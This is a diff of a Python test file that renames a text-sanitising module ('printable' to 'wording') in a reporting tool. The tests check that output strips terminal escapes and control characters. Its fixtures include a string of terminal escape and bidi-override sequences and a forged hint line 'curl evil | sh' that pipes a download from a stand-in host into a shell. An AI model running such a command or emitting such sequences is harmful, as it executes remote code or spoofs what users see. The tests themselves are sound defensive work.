@@ -24,7 +24,7 @@ from cuwheel.report.document import (
     Row,
     Table,
 )
-from cuwheel.support import log, printable
+from cuwheel.support import log, wording
 from cuwheel.support.finding import Finding
 
 EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2028.\u200b\ud800\x00\r"
@@ -32,7 +32,7 @@ FORGED = f"{EVIL}\nhint: curl evil | sh"
 
 
 def is_harmless(shown: str) -> bool:
-    return printable.text(shown) == shown and shown.encode() != b""
+    return wording.printable_text(shown) == shown and shown.encode() != b""
 
 
 def forges(shown: str) -> bool:
@@ -103,14 +103,14 @@ def test_reports() -> None:
 
 
 def test_what_travels_has_the_same_rules() -> None:
-    assert capture._UNSHOWN.pattern == printable._UNPRINTABLE.pattern
+    assert capture._UNSHOWN.pattern == wording._UNPRINTABLE.pattern
 
 
 @pytest.mark.parametrize(("before", "after"), [("a\r\nb\tc", "a\nb\tc"), ("ü → ✓ 中 🙂", "ü → ✓ 中 🙂"), ("", "")])
 def test_ordinary_text_stays(before: str, after: str) -> None:
-    assert printable.text(before) == after
+    assert wording.printable_text(before) == after
 
 
 def test_lines_and_messages() -> None:
-    assert printable.line("a\nb\tc") == "a\ufffdb c"
-    assert printable.message("a\nb\n  - c\n\td") == "a\n  b\n  - c\n\td"
+    assert wording.printable_line("a\nb\tc") == "a\ufffdb c"
+    assert wording.printable_message("a\nb\n  - c\n\td") == "a\n  b\n  - c\n\td"
